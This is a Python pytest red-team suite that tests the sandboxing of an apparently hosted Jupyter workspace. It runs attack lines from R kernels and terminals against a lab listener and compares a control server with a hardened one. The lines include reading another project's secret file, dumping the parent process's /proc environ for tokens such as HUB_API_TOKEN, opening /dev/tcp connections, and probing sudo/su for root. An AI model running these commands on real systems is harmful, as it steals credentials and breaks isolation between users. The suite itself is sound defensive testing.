"""Attacks from R, through the same kernel websocket, and from a terminal."""

from __future__ import annotations

import re
import socket
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from .clients import Kernel, Server, Terminal
from .conftest import NEIGHBOUR, Machine
from .model import Attack, Outcome, Outcomes, Stands, attack
from .targets import Targets

pytestmark = pytest.mark.redteam


@dataclass(frozen=True)
class Line:
    """Code with `{facts}` in it, and what it prints when it succeeds (a regular expression)."""

    attack: Attack
    code: str
    success: str
    tells: str
    needs: tuple[str, ...] = ()


def line(number: int, title: str, stands: Stands, code: str, success: str, tells: str, *needs: str) -> Line:
    return Line(attack(number, title, stands, reference="lab_channels 10, 12"), code, success, tells, needs)


R = (
    line(501, "R: a socket to the host", Stands.NOTEBOOK,
         's <- socketConnection("{address}", {tcp}, open="r+", blocking=TRUE, timeout=3);'
         'writeLines("{mark}", s); cat(readLines(s, 1))', "seen {mark}", "the listener answers", "address"),
    line(502, "R: a page by url()", Stands.NOTEBOOK,
         'options(timeout=3); cat(readLines(url("http://{address}:{http}/seen/{mark}"), warn=FALSE))',
         "seen /seen/{mark}", "the page comes", "http"),
    line(503, "R: a file by download.file and libcurl", Stands.NOTEBOOK,
         'options(timeout=3); f <- tempfile();'
         'download.file("http://{address}:{http}/seen/{mark}", f, method="libcurl", quiet=TRUE);'
         'cat(readLines(f, warn=FALSE))', "seen /seen/{mark}", "the page comes", "http"),
    line(504, "R: the packages of a repository", Stands.NOTEBOOK,
         'options(timeout=3); cat(rownames(available.packages(contriburl="http://{address}:{http}/src/contrib",'
         'filters=list(), ignore_repo_cache=TRUE)))', "hdhcanary", "the index comes", "http"),
    line(505, "R: a name through the system's resolver", Stands.NOTEBOOK,
         'cat("resolved:", utils::nsl("{name}"))', r"resolved: \d", "the name resolves", "resolver"),
    line(506, "R: another project's files", Stands.NOTEBOOK,
         'cat(readLines("{neighbour_home}/secret.txt", warn=FALSE))', "{secret}", "read"),
    line(507, "R: a program, to reach the network", Stands.NOTEBOOK,
         'cat(system("curl -sS --max-time 4 http://{address}:{http}/seen/{mark}", intern=TRUE))',
         "seen /seen/{mark}", "the page comes", "http"),
    line(508, "R: writing into the data", Stands.NOTEBOOK,
         'writeLines("x", "{data}/{mark}"); cat(file.exists("{data}/{mark}"));'
         'invisible(file.remove("{data}/{mark}"))', "^TRUE", "written"),
    line(509, "R: the environment of the server above", Stands.NOTEBOOK,
         'p <- strsplit(readLines("/proc/self/stat"), " ")[[1]][4];'
         'b <- readBin(paste0("/proc/", p, "/environ"), "raw", 100000); b[b == 0] <- as.raw(10);'
         'cat(rawToChar(b))', "{secret}|{state}|HUB_API_TOKEN", "a credential is read"),
    line(510, "R: a library of the attacker's into the system's", Stands.NOTEBOOK,
         'dir.create("/usr/lib/R/site-library/{tag}"); cat(dir.exists("/usr/lib/R/site-library/{tag}"));'
         'invisible(unlink("/usr/lib/R/site-library/{tag}", recursive=TRUE))', "^TRUE", "written", "root"),
)  # fmt: skip

TERMINAL = (
    line(521, "Terminal: a connection of the shell's own (/dev/tcp)", Stands.TERMINAL,
         "timeout 4 bash -c 'exec 3<>/dev/tcp/{address}/{tcp}; echo {mark} >&3; head -n1 <&3'",
         "seen {mark}", "the listener answers", "address"),
    line(522, "Terminal: curl", Stands.TERMINAL,
         "curl -sS --max-time 4 http://{address}:{http}/seen/{mark}", "seen /seen/{mark}", "the page comes", "http"),
    line(523, "Terminal: files of another project", Stands.TERMINAL,
         "cat {neighbour_home}/secret.txt", "{secret}", "read"),
    line(524, "Terminal: all of the host's files, searched for other projects", Stands.TERMINAL,
         "find /tmp /home -maxdepth 9 -name secret.txt -path '*voisin*' 2>/dev/null", "voisin/secret.txt", "found"),
    line(525, "Terminal: git pushes to a folder of the host", Stands.TERMINAL,
         "cd $(mktemp -d) && git init -q . && git -c user.name=x -c user.email=x@example.org commit -q "
         "--allow-empty -m {mark} && git push -q {web}/canary.git HEAD:refs/heads/{mark} && echo push''ed",
         "pushed", "the commit is out"),
    line(526, "Terminal: root by su or sudo", Stands.TERMINAL,
         "(sudo -n id -u || su -c 'id -u' </dev/null) 2>/dev/null | sed s/^0$/be''came/", "became", "root"),
    line(527, "Terminal: the processes of the host", Stands.TERMINAL,
         "L=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' '); case $L in *{tag}*) echo they_sh''ow;; esac",
         "they_show", "they show"),
    line(528, "Terminal: the terminals of the host", Stands.TERMINAL,
         "for t in /dev/pts/*; do readlink -f /proc/{decoy}/fd/0 >/dev/null && echo see''n && break; done",
         "seen", "they show"),
    line(529, "Terminal: what was typed and read in the hub zone's logs", Stands.TERMINAL,
         "head -c 200 {state}/logs/hub.log | grep -c . | sed s/^/li''nes:/", "lines:[1-9]", "read"),
)  # fmt: skip


Facts = dict[str, Any]
PUBLIC_NAME = "example.org"


def resolves(name: str) -> bool:
    """Whether this machine has a resolver that knows the name; where it has none, an attack by names has no control."""
    try:
        socket.getaddrinfo(name, None, socket.AF_INET)
    except socket.gaierror:
        return False
    return True


@pytest.fixture(scope="module")
def facts(machine: Machine, neighbour: Server, targets: Targets) -> Callable[[str], Facts]:
    """What an attacker is told, on either side."""
    told = {
        **targets.facts,
        "root": True,
        "name": PUBLIC_NAME,
        "resolver": resolves(PUBLIC_NAME),
        "state": str(machine.state),
        "neighbour_home": str(machine.folder.homes / NEIGHBOUR),
    }
    data = {"control": str(machine.folder.datasets / "oscour"), "here": "/data/oscour"}
    return lambda side: {**told, "data": data[side]}


@pytest.fixture(scope="module")
def r_kernels(plain: Server, workspace: Server) -> Iterator[dict[str, Kernel]]:
    with plain.kernel("ir") as control, workspace.kernel("ir") as here:
        yield {"control": control, "here": here}


@pytest.fixture(scope="module")
def terminals(plain: Server, workspace: Server) -> Iterator[dict[str, Terminal]]:
    with plain.terminal() as control, workspace.terminal() as here:
        yield {"control": control, "here": here}


def judge(tried: Line, sides: Any, facts: Callable[[str], Facts], targets: Targets, outcomes: Outcomes) -> None:
    """Run the line on both sides, and look at what it prints and at what arrives."""
    found = {}
    for side in ("control", "here"):
        told = {**facts(side), "mark": f"{side}-{tried.attack.number}"}
        printed = sides[side].run(tried.code.format(**told), 40)
        succeeds = re.search(tried.success.format(**{k: re.escape(str(v)) for k, v in told.items()}), printed)
        print(side, printed)
        found[side] = Outcome(succeeds is not None, tried.tells if succeeds else "nothing comes")
    if targets.saw(f"here-{tried.attack.number}"):
        found["here"] = Outcome(True, "something arrived at the listener")
    without = [name for name in tried.needs if not facts("control")[name]]
    if without:
        outcomes.judge(tried.attack, control=None, here=found["here"], no_control=f"no {without[0]}")
    else:
        outcomes.judge(tried.attack, control=found["control"], here=found["here"])


@pytest.mark.parametrize("tried", R, ids=lambda tried: str(tried.attack.number))
def test_an_attack_from_r(
    tried: Line, r_kernels: dict[str, Kernel], facts: Callable[[str], Facts], targets: Targets, outcomes: Outcomes
) -> None:
    judge(tried, r_kernels, facts, targets, outcomes)


@pytest.mark.parametrize("tried", TERMINAL, ids=lambda tried: str(tried.attack.number))
def test_an_attack_from_a_terminal(
    tried: Line, terminals: dict[str, Terminal], facts: Callable[[str], Facts], targets: Targets, outcomes: Outcomes
) -> None:
    judge(tried, terminals, facts, targets, outcomes)
